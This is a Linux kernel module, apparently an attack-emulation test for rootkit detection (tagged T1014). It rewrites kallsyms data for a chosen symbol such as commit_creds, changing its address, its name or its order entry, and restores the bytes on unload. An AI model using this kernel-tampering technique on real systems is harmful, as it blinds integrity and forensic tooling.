// SPDX-License-Identifier: GPL-2.0-only
/* Changes what kallsyms says of one symbol, in place (T1014); undone at unload. */
#include "attack.h"

static char *symbol = "commit_creds";
module_param(symbol, charp, 0444);
MODULE_PARM_DESC(symbol, "the symbol");
static char *how = "address";
module_param(how, charp, 0444);
MODULE_PARM_DESC(how,
		 "address: one byte on; name: another last letter; order: found by name no more");

static u8 *at;
static u8 saved[4];
static int size;

static const int *offsets;
static unsigned long base, wanted;
static unsigned int count;
static u8 *names;

/* Before 6.5 kallsyms does not name its own tables: offsets, base, count and names follow each other in the constants. */
static int search_tables(void)
{
	unsigned long at, end = attack_symbol("__end_rodata"), text = attack_symbol("_text");

	for (at = attack_symbol("__start_rodata"); at && at + 24 < end; at += 8) {
		count = *(unsigned int *)(at + 8);
		if (*(unsigned long *)at != text || count < 50000 || count > 500000 ||
		    *(unsigned int *)(at + 12))
			continue;
		offsets = (const int *)(at - ALIGN(4ul * count, 8));
		base = text;
		names = (u8 *)(at + 16);
		return 0;
	}
	return -ENOENT;
}

static int find_tables(void)
{
	attack_lookup_fn lookup = attack_lookup();
	unsigned long *relative;

	wanted = attack_symbol(symbol);
	if (!lookup || !wanted)
		return -ENOENT;
	if (!lookup("kallsyms_offsets"))
		return search_tables();
	offsets = (const int *)lookup("kallsyms_offsets");
	names = (u8 *)lookup("kallsyms_names");
	relative = (unsigned long *)lookup("kallsyms_relative_base");
	base = relative ? *relative : 0;
	count = *(unsigned int *)lookup("kallsyms_num_syms");
	return 0;
}

static unsigned long address_of(unsigned int i)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(7, 0, 0)
	return (unsigned long)(offsets + i) + offsets[i];
#else
	return offsets[i] >= 0 ? (u32)offsets[i] : base - 1 - offsets[i];
#endif
}

static int find_symbol(unsigned int *ret)
{
	unsigned int i;

	for (i = 0; i < count; i++) {
		if (address_of(i) == wanted) {
			*ret = i;
			return 0;
		}
	}
	return -ESRCH;
}

static int change_address(void)
{
	unsigned int i;
	int value;

	if (find_symbol(&i))
		return -ESRCH;
	at = (u8 *)(offsets + i);
	size = sizeof(value);
	memcpy(saved, at, size);
	value = offsets[i];
#if LINUX_VERSION_CODE >= KERNEL_VERSION(7, 0, 0)
	value++;
#else
	value -= value < 0 ? 1 : -1;
#endif
	return attack_write(at, &value, size);
}

static int change_name(void)
{
	u8 *name = names, code;
	unsigned int i, n, length;

	if (find_symbol(&i))
		return -ESRCH;
	for (n = 0;; n++) {
		length = *name++;
		if (length & 0x80)
			length = (length & 0x7f) | *name++ << 7;
		if (n == i)
			break;
		name += length;
	}
	at = name + length - 1;
	size = 1;
	saved[0] = *at;
	code = *at == 'x' ? 'y' : 'x';
	return attack_write(at, &code, size);
}

/* The number of another symbol in the place of this one's: here, of the first in the order. */
static int change_order(void)
{
	u8 *order = (u8 *)attack_symbol("kallsyms_seqs_of_names");

	if (!order)
		return -ENOENT;
	at = order + 3 * 1000;
	size = 3;
	memcpy(saved, at, size);
	return attack_write(at, order, size);
}

static int __init attack_init(void)
{
	int error = find_tables();

	if (error)
		return error;
	error = !strcmp(how, "address") ? change_address()
		: !strcmp(how, "name")	? change_name()
		: !strcmp(how, "order") ? change_order()
					: -EINVAL;
	if (!error)
		attack_log("how=%s slot=0x%lx base=0x%lx value=%s", how, (unsigned long)at, wanted,
			   symbol);
	return error;
}

static void __exit attack_exit(void)
{
	attack_write(at, saved, size);
	attack_log("restored symbol=%s", symbol);
}

module_init(attack_init);
module_exit(attack_exit);
